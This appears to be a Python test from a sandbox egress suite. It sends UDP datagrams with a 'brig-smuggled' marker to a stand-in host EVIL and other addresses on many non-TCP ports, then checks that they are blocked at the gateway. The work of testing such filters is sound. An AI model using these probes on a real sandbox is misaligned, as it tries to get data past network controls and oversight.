# SPDX-License-Identifier: Apache-2.0
# Trick: datagrams to every other port: QUIC, NTP, IKE, STUN, Wireguard, syslog
# Gain: what has no rule, as only TCP has one
from trick import *

for addr in (EVIL, API, EVIL6, API6, GATE, HOST, "11.0.0.2", "10.0.0.5"):
    for port in (443, 80, 123, 500, 4500, 3478, 51820, 514, 54, 52, 3128, 1, 65535):
        ask(b"\xc3\0\0\0\1\x08" + os.urandom(1190) if port == 443 else b"brig-smuggled", addr, port, 0.004)
stopped("they end at the gate")
